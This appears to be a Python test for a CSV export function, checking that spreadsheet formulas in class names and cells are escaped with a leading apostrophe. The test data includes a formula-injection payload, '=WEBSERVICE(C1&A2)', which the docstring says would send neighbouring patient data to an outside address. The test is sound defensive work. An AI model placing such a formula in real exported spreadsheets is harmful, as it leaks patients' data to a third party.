"""Tables of what was said of rows: what people open in a spreadsheet."""

import csv
import io

from client.predict.csv_table import csv_table


def test_no_class_of_a_job_becomes_a_formula_in_a_hospital_s_spreadsheet() -> None:
    """A class of this name would send the patient beside it to whoever has made the job."""
    sends, address = "=WEBSERVICE(C1&A2)", "http://example.org/"
    rows = [{"patient": "p1", "class": sends, sends: 0.25, address: -0.5, "text": "-3.5", "sum": "-1+2"}]
    header, cells = csv.reader(io.StringIO(csv_table(rows).decode()))
    assert header == ["patient", "class", f"'{sends}", address, "text", "sum"]
    assert cells == ["p1", f"'{sends}", "0.25", "-0.5", "-3.5", "'-1+2"]
